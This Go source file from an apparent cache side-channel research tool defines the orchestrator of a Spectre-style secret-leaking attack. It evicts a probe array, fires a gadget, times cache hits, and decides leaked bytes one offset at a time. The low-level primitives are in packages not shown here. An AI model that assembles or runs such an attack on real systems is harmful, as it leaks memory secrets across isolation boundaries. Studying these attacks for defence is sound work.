// Package attack drives the byte-by-byte recovery loop: evict, leak, sample,
// decide.
package attack

import (
	"github.com/sarchlab/cacheleak/aggregate"
	"github.com/sarchlab/cacheleak/eviction"
	"github.com/sarchlab/cacheleak/gadget"
	"github.com/sarchlab/cacheleak/geometry"
	"github.com/sarchlab/cacheleak/hooking"
	"github.com/sarchlab/cacheleak/logger"
	"github.com/sarchlab/cacheleak/memory"
	"github.com/sarchlab/cacheleak/oracle"
)

// An Orchestrator owns the candidate array, the probe array, the eviction
// buffer and the hit table of one attack, and runs the recovery loop over
// them.
//
// The orchestrator is single-threaded. Nothing else may touch its regions
// or run on its core while Run is in progress, or every latency sample is
// suspect.
type Orchestrator struct {
	hooking.HookableBase

	cfg       Config
	params    geometry.Params
	platform  Platform
	gadget    gadget.Gadget
	layout    Layout
	evictor   *eviction.Engine
	oracle    *oracle.Oracle
	table     *aggregate.HitTable
	reporters []ResultSink
	log       logger.Logger

	state       State
	offset      int
	round       int
	attackIndex uint64
	result      Result
	tornDown    bool
}

// Layout returns the regions owned by the orchestrator.
func (o *Orchestrator) Layout() Layout {
	return o.layout
}

// Config returns the configuration of the attack.
func (o *Orchestrator) Config() Config {
	return o.cfg
}

// State returns the current state.
func (o *Orchestrator) State() State {
	return o.state
}

// Offset returns the secret offset being attacked.
func (o *Orchestrator) Offset() int {
	return o.offset
}

// Round returns the number of rounds finished for the current offset.
func (o *Orchestrator) Round() int {
	return o.round
}

// AttackIndex returns the candidate-array index of the current secret byte.
func (o *Orchestrator) AttackIndex() uint64 {
	return o.attackIndex
}

// HitTable returns the hit table of the current offset.
func (o *Orchestrator) HitTable() *aggregate.HitTable {
	return o.table
}

// Result returns the bytes decided so far.
func (o *Orchestrator) Result() Result {
	return o.result
}

// Run steps the orchestrator until every offset is decided and returns the
// recovered secret.
func (o *Orchestrator) Run() Result {
	o.log.Noticef("attacking %d bytes at 0x%x, %d rounds, threshold %d",
		o.cfg.SecretLength, o.cfg.TargetAddress, o.cfg.Rounds,
		o.cfg.Threshold)

	for o.Step() {
	}

	return o.result
}

// Step moves the state machine by one transition. It returns false once the
// orchestrator is done.
func (o *Orchestrator) Step() bool {
	switch o.state {
	case StateInit:
		o.init()
	case StateRounds:
		o.rounds()
	case StateDecide:
		o.decide()
	case StateDone:
		return false
	}

	return true
}

func (o *Orchestrator) init() {
	if o.offset >= o.cfg.SecretLength {
		o.finish()
		return
	}

	o.table.Reset()
	o.round = 0
	o.state = StateRounds
}

func (o *Orchestrator) rounds() {
	if o.round >= o.cfg.Rounds {
		o.state = StateDecide
		return
	}

	o.runRound()
	o.round++

	if o.NumHooks() > 0 {
		o.InvokeHook(hooking.HookCtx{
			Domain: o,
			Pos:    HookPosRoundEnd,
			Item:   o,
			Detail: RoundInfo{
				Offset: o.offset,
				Round:  o.round,
				Hits:   o.table.Snapshot(),
			},
		})
	}
}

func (o *Orchestrator) runRound() {
	o.evictor.Evict(o.layout.Probe.Base, o.layout.Probe.Size)

	gadget.Fire(o.gadget, o.attackIndex)

	if decoy, ok := gadget.DecoyOf(o.gadget); ok {
		o.oracle.Exclude(int(decoy))
	} else {
		o.oracle.ClearExclusion()
	}

	o.oracle.SampleAll(o.cfg.Mixer, o.table)
}

func (o *Orchestrator) decide() {
	top := aggregate.TopK(o.table, 2)

	b := ByteResult{
		Offset:   o.offset,
		Address:  o.layout.Guide.Base + o.attackIndex,
		Value:    top[0].Value,
		Hits:     top[0].Count,
		RunnerUp: top[1],
		Verdict:  o.cfg.Margin.Judge(top[0], top[1]),
		Rounds:   o.round,
	}

	o.result.Bytes = append(o.result.Bytes, b)

	o.log.Infof("offset %d at 0x%x: 0x%02x (%d hits, runner-up 0x%02x "+
		"with %d) %s", b.Offset, b.Address, b.Value, b.Hits,
		b.RunnerUp.Value, b.RunnerUp.Count, b.Verdict)

	for _, r := range o.reporters {
		r.ReportByte(b)
	}

	o.InvokeHook(hooking.HookCtx{
		Domain: o,
		Pos:    HookPosByteDecided,
		Item:   o,
		Detail: b,
	})

	o.attackIndex++
	o.offset++
	o.state = StateInit
}

func (o *Orchestrator) finish() {
	o.state = StateDone

	o.log.Noticef("recovered %d bytes, %d inconclusive",
		len(o.result.Bytes), len(o.result.Inconclusive()))

	for _, r := range o.reporters {
		r.ReportDone(o.result)
	}

	o.InvokeHook(hooking.HookCtx{
		Domain: o,
		Pos:    HookPosDone,
		Item:   o,
		Detail: o.result,
	})
}

// Teardown gives the owned regions back to the platform when it supports
// releasing them. The orchestrator cannot be run afterwards.
func (o *Orchestrator) Teardown() {
	if o.tornDown {
		return
	}

	if r, ok := o.platform.(memory.Releaser); ok {
		for _, region := range o.layout.Regions() {
			r.Release(region)
		}
	}

	o.table.Reset()
	o.state = StateDone
	o.tornDown = true
}
